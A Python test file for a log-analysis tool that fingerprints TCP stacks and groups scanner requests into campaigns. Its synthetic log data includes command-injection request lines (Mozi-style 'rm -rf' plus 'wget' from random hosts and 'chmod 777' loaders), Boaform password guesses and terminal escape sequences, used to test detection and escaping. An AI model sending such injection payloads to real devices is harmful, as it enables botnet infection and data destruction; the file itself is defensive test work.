"""`tcpfp report` as a command: inputs (files, gzip, stdin), format choice, outputs (tables,
JSON, CSV), exit codes and messages, and logs written by the real `tcpfp serve`.

A generated log that mixes named campaigns, unnamed exploit campaigns with
varying addresses, ports and values, ordinary browsing from Windows and macOS
stacks and a garbage line must come out as one pattern per campaign and one
cluster per stack, with the counts the test wrote.  Logs written by `serve`
(default and custom formats) must read back to the values it logged.
"""

from __future__ import annotations

import csv
import gzip
import io
import json
import random
import socket
import subprocess
import sys

import pandas as pd
import pytest
from typer.testing import CliRunner

import synbuild
from servehelp import Served, exchange
from synbuild import SYN
from tcpfp_cli.cli import app
from tcpfp_cli.hextext import parse_hex
from tcpfp_cli.logformat import compile_format
from tcpfp_cli.logreader import TerminalProgress, read_dataframe
from tcpfp_cli.syn import parse_syn

SEED_FORMAT = ('%{FINGERPRINT_TCP_RTT}g %{FINGERPRINT_IP_TTL}g %{FINGERPRINT_TCP_WSIZE}g '
               '%{FINGERPRINT_TCP_WSCALE}g %{FINGERPRINT_TCP_OPTIONS}g %{FINGERPRINT_TCP_MSS}g "%r"')
runner = CliRunner()


def invoke(*args, input=None):
    result = runner.invoke(app, ["report", *args], input=input)
    return result.exit_code, result.stdout, result.stderr


# --------------------------------------------------------------------------- the judged scenario

SCENARIO_FORMAT = ('%h %l %u %t "%r" %>s %b %{FINGERPRINT_IP_TTL}g %{FINGERPRINT_IP_DF}g '
                   '%{FINGERPRINT_TCP_WSIZE}g %{FINGERPRINT_TCP_WSCALE}g "%{FINGERPRINT_TCP_OPTIONS}g" '
                   '%{FINGERPRINT_TCP_MSS}g %{FINGERPRINT_TCP_RTT}g "%{User-Agent}i"')
# name -> (ttl range, df, window, scale, options, mss, rtt range)
STACKS = {
    "router": ((44, 52), 1, 28800, 4, "2,4,8,1,3", 1406, (900_000, 4_000_000)),
    "modem": ((44, 52), 1, 5808, 2, "2,4,8,1,3", 1452, (900_000, 4_000_000)),
    "windows": ((108, 120), 1, 64240, 8, "2,1,3,1,1,4", 1460, (10_000, 90_000)),
    "macos": ((50, 60), 1, 65535, 6, "2,1,3,1,1,8,4,0,0", 1460, (10_000, 90_000)),
}


GARBAGE_AT = 17  # line number of the garbage line


def _ip(rng):
    return f"{rng.randrange(1, 224)}.{rng.randrange(256)}.{rng.randrange(256)}.{rng.randrange(1, 255)}"


def _scenario(rng: random.Random):
    """(lines, {campaign key: count}, {stack: count}); the campaign key is a name or a pattern."""
    requests = []
    for _ in range(6):
        requests.append(("router", "Mozi", f"GET /board.cgi?cmd=cd+/tmp;rm+-rf+*;wget+http://{_ip(rng)}:"
                         f"{rng.randrange(1024, 65535)}/Mozi.a;chmod+777+Mozi.a;/tmp/Mozi.a+varcron HTTP/1.0"))
    for user in ("admin", "user", "ec8", "root", "guest", "admin", "support"):
        requests.append((rng.choice(["router", "modem"]), "Boaform",
                         f"GET /boaform/admin/formLogin?username={user}&psd={user}{rng.randrange(99)} HTTP/1.0"))
    for _ in range(5):  # unnamed: a query-less loader command with varying server and port
        requests.append(("modem", "GET /dl?cd+/var;wget+http://<ip>:<port>/bins.sh;chmod+<n>+bins.sh HTTP/1.0",
                         f"GET /dl?cd+/var;wget+http://{_ip(rng)}:{rng.randrange(1024, 65535)}/bins.sh;"
                         f"chmod+{rng.choice([777, 755])}+bins.sh HTTP/1.0"))
    for _ in range(4):  # unnamed: parameters with varying values, a hex session id in the path
        requests.append(("router", "POST /cgi-bin/<hex>/diag.cgi?action=<v>&host=<v>&port=<v> HTTP/1.1",
                         f"POST /cgi-bin/{rng.getrandbits(96):024x}/diag.cgi?action=ping&host={_ip(rng)}"
                         f"&port={rng.randrange(1, 65535)} HTTP/1.1"))
    for stack, count in (("windows", 9), ("macos", 8)):
        for k in range(count):
            path = ["/", "/index.html", "/favicon.ico"][k % 3]
            requests.append((stack, f"GET {path} HTTP/1.1", f"GET {path} HTTP/1.1"))
    rng.shuffle(requests)
    lines = []
    for stack, _, request in requests:
        (lo, hi), df, window, scale, options, mss, (rlo, rhi) = STACKS[stack]
        lines.append(f'{_ip(rng)} - - [01/Feb/2024:10:00:00 +0000] "{request}" 404 - {rng.randrange(lo, hi)} '
                     f'{df} {window} {scale} "{options}" {mss} {rng.randrange(rlo, rhi)} "scanner \\"x\\""')
    lines.insert(GARBAGE_AT - 1, "\x00\x01\x02 this is not a log line \xff")
    campaigns: dict[str, int] = {}
    stacks: dict[str, int] = {}
    for stack, key, _ in requests:
        campaigns[key] = campaigns.get(key, 0) + 1
        stacks[stack] = stacks.get(stack, 0) + 1
    return lines, campaigns, stacks


def test_judged_scenario_campaigns_clusters_and_garbage(tmp_path):
    lines, campaigns, stacks = _scenario(random.Random(5))
    log = tmp_path / "mixed.log"
    log.write_bytes(("\n".join(lines) + "\n").encode("latin-1"))
    code, out, err = invoke("--json", "--format", SCENARIO_FORMAT, str(log))
    assert code == 0, err
    report = json.loads(out)
    assert report["summary"]["malformed"] == 1 and report["summary"]["parsed"] == len(lines) - 1
    assert report["malformed_lines"][0]["line"] == GARBAGE_AT
    got = {c["name"] or c["pattern"]: c["requests"] for c in report["campaigns"]}
    assert got == campaigns
    by_window = {(f["FINGERPRINT_TCP_WSIZE"], f["FINGERPRINT_TCP_OPTIONS"]): f for f in report["fingerprints"]}
    assert len(report["fingerprints"]) == len(STACKS)
    for stack, (_, _, window, _, options, _, _) in STACKS.items():
        assert by_window[(window, options)]["requests"] == stacks[stack], stack
    assert by_window[(64240, "2,1,3,1,1,4")]["label"] == "Windows-like"
    assert by_window[(65535, "2,1,3,1,1,8,4,0,0")]["label"] == "Apple-like"
    assert by_window[(28800, "2,4,8,1,3")]["label"] == "embedded/low-memory Linux"
    assert by_window[(28800, "2,4,8,1,3")]["rtt_outlier"] is True
    assert by_window[(64240, "2,1,3,1,1,4")]["rtt_outlier"] is False
    assert by_window[(64240, "2,1,3,1,1,4")]["clients"] == stacks["windows"]  # every line has its own address


# The same devices when the log holds only each SYN's hex: the report decodes the key from it.
# stack -> (ttl range, df, IP TOS (ECN bits), TCP flags, window, option area); SYNs built by scapy.
SYN_STACKS = {
    "router": ((44, 52), True, 0, SYN, 28800, synbuild.linux_layout(1406, 4, 7)),
    "router, DF clear": ((44, 52), False, 0, SYN, 28800, synbuild.linux_layout(1406, 4, 7)),
    "windows": ((108, 128), True, 0, SYN, 64240, synbuild.windows_layout(1460, 8, 0)),
    "macos, ECN setup": ((50, 64), True, 0, SYN | synbuild.ECE | synbuild.CWR, 65535,
                         synbuild.macos_layout(1460, 6, 9)),
    "scanner, ECT(0)": ((230, 250), False, 2, SYN, 1024, b""),
}
# stack -> the key the report must give: ITTL, window, scale, options, MSS, DF, IP ECN, TCP ECN
SYN_KEYS = {
    "router": [64, 28800, 4, "2,4,8,1,3", 1406, 1, 0, 0],
    "router, DF clear": [64, 28800, 4, "2,4,8,1,3", 1406, 0, 0, 0],
    "windows": [128, 64240, 8, "2,1,3,1,1,4", 1460, 1, 0, 0],
    "macos, ECN setup": [64, 65535, 6, "2,1,3,1,1,8,4,0,0", 1460, 1, 0, 3],
    "scanner, ECT(0)": [255, 1024, None, "", None, 0, 2, 0],
}


@pytest.mark.parametrize("log_format", ['%h %t "%r" %>s %{FINGERPRINT_SAVED_SYN}g',
                                        '%{FINGERPRINT_TCP_RTT}g %{FINGERPRINT_SAVED_SYN}g "%r"'])
def test_a_log_of_saved_syns_alone_clusters_by_their_fields(tmp_path, log_format):
    rng = random.Random(7)
    lines, counts = [], {}
    for n in range(60):
        stack = rng.choice(sorted(SYN_STACKS))
        (lo, hi), df, tos, flags, window, options = SYN_STACKS[stack]
        syn = synbuild.build_syn(index=n, ttl=rng.randint(lo, hi), df=df, ip_id=rng.randrange(1, 65535), tos=tos,
                                 flags=flags, window=window, options=options, seq=rng.getrandbits(32))
        lines.append(log_format.replace("%h", _ip(rng)).replace("%t", "[01/Feb/2024:10:00:00 +0000]")
                     .replace("%r", f"GET /{n} HTTP/1.1").replace("%>s", "404")
                     .replace("%{FINGERPRINT_TCP_RTT}g", str(rng.randrange(1000, 90000)))
                     .replace("%{FINGERPRINT_SAVED_SYN}g", syn.raw.hex()))
        counts[stack] = counts.get(stack, 0) + 1
    log = tmp_path / "syns.log"
    log.write_text("\n".join(lines) + "\n")
    code, out, err = invoke("--json", "--format", log_format, str(log))
    assert code == 0, err
    report = json.loads(out)
    key = report["summary"]["key"]
    assert key == ["FINGERPRINT_ITTL", "FINGERPRINT_TCP_WSIZE", "FINGERPRINT_TCP_WSCALE", "FINGERPRINT_TCP_OPTIONS",
                   "FINGERPRINT_TCP_MSS", "FINGERPRINT_IP_DF", "FINGERPRINT_IP_ECN", "FINGERPRINT_TCP_ECN"]
    got = {json.dumps([f[k] for k in key]): f["requests"] for f in report["fingerprints"]}
    assert got == {json.dumps(SYN_KEYS[stack]): n for stack, n in counts.items()}
    windows = next(f for f in report["fingerprints"] if f["FINGERPRINT_TCP_WSIZE"] == 64240)
    assert windows["label"] == "Windows-like" and windows["label_source"] == "database"
    assert 108 <= windows["ttl_min"] <= windows["ttl_max"] <= 128
    # any SYN field the log lacks can key the clusters: it is decoded from the SYN
    code, out, err = invoke("--json", "--by", "IP_VERSION,FINGERPRINT_TCP_OPTIONS", "--format", log_format, str(log))
    assert code == 0, err
    by = {(f["FINGERPRINT_IP_VERSION"], f["FINGERPRINT_TCP_OPTIONS"]): f["requests"]
          for f in json.loads(out)["fingerprints"]}
    expected: dict[tuple[int, str], int] = {}
    for stack, n in counts.items():
        layout = SYN_KEYS[stack][3]
        expected[(4, layout)] = expected.get((4, layout), 0) + n
    assert by == expected


# --------------------------------------------------------------------------- inputs, formats, exit codes


def _seed_text():
    from pathlib import Path

    return (Path(__file__).parent / "fixtures" / "seed_access.log").read_text()


def test_tables_by_default(tmp_path):
    log = tmp_path / "seed.log"
    log.write_text(_seed_text())
    code, out, _ = invoke("--format", SEED_FORMAT, str(log))
    assert code == 0
    assert out.splitlines()[0].startswith("13 requests from 13 lines (0 malformed, 0 blank)")
    for title in ("Fingerprint clusters", "Campaigns", "Campaigns x fingerprint clusters"):
        assert title in out
    assert "embedded/low-memory Linux" in out and "Mozi" in out and "Boaform" in out


def _controls(text: str) -> list[str]:
    """The C0 (but newline) and C1 control characters of ``text``."""
    return [c for c in text if (ord(c) < 0x20 and c != "\n") or 0x7F <= ord(c) < 0xA0]


def test_escape_sequences_sent_by_clients_never_reach_the_readers_terminal(tmp_path):
    """A client controls its request line and User-Agent, and the log keeps their bytes
    (escaped as \\xhh, which the report reads back).  Printed raw, an OSC or CSI sequence
    would retitle or rewrite the terminal of whoever reads the report; the tables and CSV
    files show control characters escaped again, as the log does, and JSON as \\u escapes."""
    line = ('198.18.0.9 - - [25/Nov/2026:20:00:00 +0000] "GET /\\x1b]0;pwned\\x07\\x1b[2J\\x9b31m HTTP/1.1" '
            '200 2 64 1 64240 7 "2,4,8,1,3" 1460 9000 "\\x1b[5mcurl"\n')
    log = tmp_path / "hostile.log"
    log.write_text(line * 3 + "\x1b[2Jnot a log line\n")
    code, out, _ = invoke("--format", SCENARIO_FORMAT, str(log))
    assert code == 0
    assert _controls(out) == []
    assert "GET /\\x1b]<n>;pwned\\x07\\x1b[2J\\x9b31m HTTP/1.1" in out  # the pattern, escaped
    code, out, _ = invoke("--json", "--format", SCENARIO_FORMAT, str(log))
    assert code == 0 and _controls(out) == []
    assert [c["pattern"] for c in json.loads(out)["campaigns"]] == ["GET /\x1b]<n>;pwned\x07\x1b[2J\x9b31m HTTP/1.1"]
    code, _, _ = invoke("--csv", str(tmp_path / "csv"), "--format", SCENARIO_FORMAT, str(log))
    assert code == 0
    for path in (tmp_path / "csv").glob("*.csv"):
        assert _controls(path.read_text()) == [], path.name
    campaigns = list(csv.DictReader((tmp_path / "csv" / "campaigns.csv").open()))
    assert [c["pattern"] for c in campaigns] == ["GET /\\x1b]<n>;pwned\\x07\\x1b[2J\\x9b31m HTTP/1.1"]


def test_gzip_stdin_and_several_files_add_up(tmp_path):
    text = _seed_text()
    gz = tmp_path / "seed.log.gz"
    gz.write_bytes(gzip.compress(text.encode()))
    code, out, _ = invoke("--json", "--format", SEED_FORMAT, str(gz))
    assert code == 0 and json.loads(out)["summary"]["parsed"] == 13
    code, out, _ = invoke("--json", "--format", SEED_FORMAT, "-", input=text)
    assert code == 0 and json.loads(out)["summary"]["parsed"] == 13
    plain = tmp_path / "seed.log"
    plain.write_text(text)
    code, out, _ = invoke("--json", "--format", SEED_FORMAT, str(plain), str(gz))
    counts = {c["name"]: c["requests"] for c in json.loads(out)["campaigns"]}
    assert code == 0 and counts == {"Boaform": 18, "Mozi": 8}


def test_format_is_recognised_and_said_on_stderr(tmp_path):
    log = tmp_path / "c.log"
    log.write_text('10.0.0.1 - - [01/Jan/2024:00:00:00 +0000] "GET /a HTTP/1.1" 200 12 "-" "curl/8"\n' * 3)
    code, out, err = invoke("--json", str(log))
    assert code == 0
    assert "'combined'" in err
    assert json.loads(out)["summary"]["format_name"] == "combined"
    assert json.loads(out)["fingerprints"] == []  # no fingerprint fields in a combined log


def test_unrecognised_format_asks_for_format(tmp_path):
    log = tmp_path / "seed.log"
    log.write_text(_seed_text())
    code, out, err = invoke(str(log))
    assert code == 2 and out == ""
    assert len(err.strip().splitlines()) == 1 and "--format" in err


@pytest.mark.parametrize("content", [b"", b"\n\n  \n"])
def test_empty_input_exits_2(tmp_path, content):
    log = tmp_path / "empty.log"
    log.write_bytes(content)
    code, _, err = invoke("--format", SEED_FORMAT, str(log))
    assert code == 2 and len(err.strip().splitlines()) == 1
    code, _, err = invoke(str(log))
    assert code == 2 and len(err.strip().splitlines()) == 1


def test_missing_file_is_one_line_and_exit_2(tmp_path):
    code, out, err = invoke("--format", SEED_FORMAT, str(tmp_path / "nope.log"))
    assert code == 2 and out == ""
    assert err.strip() == f"tcpfp: {tmp_path / 'nope.log'}: No such file or directory"


def test_bad_lines_are_counted_and_shown(tmp_path):
    good = _seed_text().splitlines()
    lines = [good[0], good[1][:40], "1 2 3", good[2] + " 99", "\x00\xff\x10binary\x80", good[3]]
    log = tmp_path / "bad.log"
    log.write_bytes(("\n".join(lines) + "\n").encode("latin-1"))
    code, out, _ = invoke("--json", "--format", SEED_FORMAT, str(log))
    assert code == 0
    report = json.loads(out)
    assert (report["summary"]["parsed"], report["summary"]["malformed"]) == (2, 4)
    assert [m["line"] for m in report["malformed_lines"]] == [2, 3, 4, 5]
    assert all(m["reason"] for m in report["malformed_lines"])
    code, out, _ = invoke("--format", SEED_FORMAT, str(log))
    assert "malformed: " in out and ":2: " in out


def test_nothing_parsed_exits_2(tmp_path):
    log = tmp_path / "junk.log"
    log.write_text("junk\nmore junk\n")
    code, _, err = invoke("--format", SEED_FORMAT, str(log))
    assert code == 2 and "no line" in err and len(err.strip().splitlines()) == 1


def test_bad_format_and_bad_by_exit_2(tmp_path):
    log = tmp_path / "seed.log"
    log.write_text(_seed_text())
    code, _, err = invoke("--format", "%{FINGERPRINT_NOPE}g", str(log))
    assert code == 2 and "FINGERPRINT_NOPE" in err
    code, _, err = invoke("--format", SEED_FORMAT, "--by", "IP_DF", str(log))
    assert code == 2 and "--by" in err


def test_csv_top_min_count_and_by(tmp_path):
    log = tmp_path / "seed.log"
    log.write_text(_seed_text())
    code, _, _ = invoke("--format", SEED_FORMAT, "--csv", str(tmp_path / "out"), "--min-count", "2", str(log))
    assert code == 0
    with open(tmp_path / "out" / "fingerprints.csv") as f:
        rows = list(csv.DictReader(f))
    assert sorted(int(r["requests"]) for r in rows) == [2, 2, 2, 4]
    with open(tmp_path / "out" / "campaigns.csv") as f:
        assert {r["name"]: r["requests"] for r in csv.DictReader(f)} == {"Boaform": "9", "Mozi": "4"}
    assert {p.name for p in (tmp_path / "out").iterdir()} >= {"summary.csv", "crosstab.csv", "malformed.csv"}
    code, out, _ = invoke("--json", "--format", SEED_FORMAT, "--top", "2", str(log))
    assert len(json.loads(out)["fingerprints"]) == 2
    code, out, _ = invoke("--json", "--format", SEED_FORMAT, "--by", "TCP_WSCALE", str(log))
    assert {f["FINGERPRINT_TCP_WSCALE"]: f["requests"] for f in json.loads(out)["fingerprints"]} == {
        4: 4, 5: 6, 1: 1, 2: 2}


def test_user_campaign_file(tmp_path):
    log = tmp_path / "seed.log"
    log.write_text(_seed_text())
    mine = tmp_path / "mine.tsv"
    mine.write_text("Boa guessing\t/boaform/\tour name for it\n")
    code, out, _ = invoke("--json", "--format", SEED_FORMAT, "--campaigns", str(mine), str(log))
    assert code == 0
    assert {c["name"] for c in json.loads(out)["campaigns"]} == {"Boa guessing", "Mozi"}
    mine.write_text("broken line without a tab\n")
    code, _, err = invoke("--format", SEED_FORMAT, "--campaigns", str(mine), str(log))
    assert code == 2 and "line 1" in err


def test_progress_bar_text():
    out = io.StringIO()
    bar = TerminalProgress(1000, "x.log", stream=out)
    bar.started -= 1  # pretend a second went by
    bar(500, 12345)
    bar.close()
    assert "50%" in out.getvalue() and "12,345 lines" in out.getvalue()


def test_no_progress_bar_when_stderr_is_not_a_terminal(tmp_path):
    log = tmp_path / "seed.log"
    log.write_text(_seed_text() * 200)
    done = subprocess.run([sys.executable, "-m", "tcpfp_cli", "report", "--format", SEED_FORMAT, str(log)],
                          capture_output=True, text=True, timeout=60)
    assert done.returncode == 0 and done.stderr == ""


# --------------------------------------------------------------------------- round trip through serve

CUSTOM_FORMATS = [
    '%a %>s "%r" %{FINGERPRINT_IP_TTL}g %{FINGERPRINT_TCP_WSIZE}g %{FINGERPRINT_TCP_WSCALE}g '
    '%{FINGERPRINT_TCP_OPTIONS}g %{FINGERPRINT_TCP_MSS}g %{FINGERPRINT_TCP_RTT}g %{FINGERPRINT_SAVED_SYN}g',
    '[%t] %h "%{User-Agent}i" rtt=%{FINGERPRINT_TCP_RTT}g "%r" %{FINGERPRINT_ITTL}g/%{FINGERPRINT_HOPS}g '
    '"%{FINGERPRINT_P0F}g" %{FINGERPRINT_IP_DF}g',
]
REQUESTS = [b"GET /a?x=1 HTTP/1.0\r\nUser-Agent: t\"q\\ 1\r\n\r\n", b'GET /"quoted"\\path HTTP/1.0\r\n\r\n',
            b"GET /\xe9t\xe9 HTTP/1.0\r\nUser-Agent: \x01\r\n\r\n", b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"]


def _client(ttl, mss, rcvbuf):
    def apply(s):
        s.setsockopt(socket.IPPROTO_IP, socket.IP_TTL, ttl)
        s.setsockopt(socket.IPPROTO_TCP, socket.TCP_MAXSEG, mss)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
    return apply


@pytest.mark.parametrize("log_format", ["tcpfp", *CUSTOM_FORMATS])
def test_serve_logs_read_back_to_what_serve_logged(tmp_path, log_format):
    with Served(tmp_path, log_format=log_format, wait_host="127.0.0.1") as server:
        for n, payload in enumerate(REQUESTS * 2):
            exchange("127.0.0.1", server.port, payload,
                     before_connect=_client(40 + n, 1000 + 40 * n, 4096 * (n + 1)))
        lines = server.lines(len(REQUESTS) * 2)
    assert len(lines) == len(REQUESTS) * 2
    fmt = compile_format(log_format)
    expected = [fmt.parse(line) for line in lines]
    df, stats = read_dataframe([str(server.log)], fmt)
    assert stats.parsed == len(lines) and stats.malformed == 0
    ints = {d.column for d in fmt.directives if d.kind == "int"}
    for column in fmt.columns:
        got = [None if pd.isna(v) else (str(int(v)) if column in ints else v) for v in df[column].astype(object)]
        assert got == [r[column] for r in expected], column
    # What each client's kernel sent (IP_TTL and TCP_MAXSEG set before connect), not what
    # the log says: every format's fingerprint columns must read back to it.
    wanted = {"FINGERPRINT_IP_TTL": lambda k: 40 + k, "FINGERPRINT_TCP_MSS": lambda k: 1000 + 40 * k,
              "FINGERPRINT_ITTL": lambda k: 64, "FINGERPRINT_HOPS": lambda k: 64 - (40 + k),
              "FINGERPRINT_IP_DF": lambda k: 1, "FINGERPRINT_TCP_OPTIONS": lambda k: "2,4,8,1,3"}
    checked = [column for column in wanted if column in fmt.columns]
    assert checked  # each format has some of them
    for column in checked:
        assert df[column].tolist() == [wanted[column](k) for k in range(len(df))], column
    if "FINGERPRINT_SAVED_SYN" in fmt.columns:
        for k in range(len(df)):
            syn = parse_syn(parse_hex(df["FINGERPRINT_SAVED_SYN"][k]))
            assert df["FINGERPRINT_IP_TTL"][k] == syn.ttl == 40 + k
            assert df["FINGERPRINT_TCP_WSIZE"][k] == syn.window
            assert df["FINGERPRINT_TCP_MSS"][k] == syn.mss
            assert df["FINGERPRINT_TCP_OPTIONS"][k] == syn.options_text
    code, out, err = invoke("--json", "--format", log_format, str(server.log))
    assert code == 0, err
    report = json.loads(out)
    assert report["summary"]["parsed"] == len(lines)
    patterns = {c["pattern"]: c["requests"] for c in report["campaigns"]}
    assert patterns["<tls>"] == 2 and patterns['GET /"quoted"\\path HTTP/1.0'] == 2
    assert patterns["GET /a?x=<v> HTTP/1.0"] == 2


def test_default_serve_log_is_recognised_without_format(tmp_path):
    with Served(tmp_path) as server:
        exchange("127.0.0.1", server.port, REQUESTS[0])
        server.lines(1)
    code, out, err = invoke("--json", str(server.log))
    assert code == 0 and "'tcpfp'" in err
    (fp,) = json.loads(out)["fingerprints"]
    assert fp["FINGERPRINT_TCP_OPTIONS"] == "2,4,8,1,3" and fp["label"] in ("Linux-like", "embedded/low-memory Linux")
    assert fp["clients"] == 1


def test_a_key_field_missing_for_some_clusters_shows_as_a_dash_and_labels_keep_two_lines(tmp_path):
    """A sensor's log mixes IPv4 clients (DF 0 or 1) and IPv6 ones (DF `-`), so the DF key
    column holds integers and missing values.  The tables and the CSV files show the integers
    as logged and the missing value as `-` (empty in CSV), never `1.0` or `nan`; and the
    cluster table's label keeps the database's `name flavor` on a second line, not `\\x0a`."""
    fmt = ('%h %t "%r" %>s %{FINGERPRINT_IP_TTL}g %{FINGERPRINT_IP_DF}g %{FINGERPRINT_TCP_WSIZE}g '
           '%{FINGERPRINT_TCP_WSCALE}g "%{FINGERPRINT_TCP_OPTIONS}g" %{FINGERPRINT_TCP_MSS}g '
           '%{FINGERPRINT_TCP_RTT}g "%{FINGERPRINT_OS}g" "%{FINGERPRINT_OS_MATCH}g"')
    log = tmp_path / "mixed.log"
    log.write_text(
        '198.18.0.2 [25/Nov/2026:20:00:00 +0000] "GET /a HTTP/1.1" 200 52 1 64240 7 "2,4,8,1,3" 1460 9000 '
        '"unix:Linux:2.2.x-3.x" "generic"\n'
        '2001:db8::2 [25/Nov/2026:20:00:01 +0000] "GET /b HTTP/1.1" 200 52 - 64800 7 "2,4,8,1,3" 1440 - '
        '"unix:Linux:2.2.x-3.x" "generic"\n')
    code, out, _ = invoke("--format", fmt, "--csv", str(tmp_path / "csv"), str(log))
    assert code == 0
    table = out.split("Fingerprint clusters\n")[1].split("\n\n")[0].splitlines()
    header = table[0].split()
    rows = {line.split()[0]: dict(zip(header, line.split())) for line in table[2:] if line.startswith("F")}
    assert sorted((r["TCP_MSS"], r["IP_DF"], r["rtt_median_us"]) for r in rows.values()) == [
        ("1440", "-", "-"), ("1460", "1", "9000")]
    assert "\\x0a" not in out
    assert [line.strip() for line in table if not line.startswith(("F", "-", "id"))] == ["Linux 2.2.x-3.x"] * 2
    fingerprints = list(csv.DictReader((tmp_path / "csv" / "fingerprints.csv").open()))
    assert sorted((r["FINGERPRINT_TCP_MSS"], r["FINGERPRINT_IP_DF"], r["rtt_median_us"]) for r in fingerprints) == [
        ("1440", "", ""), ("1460", "1", "9000")]
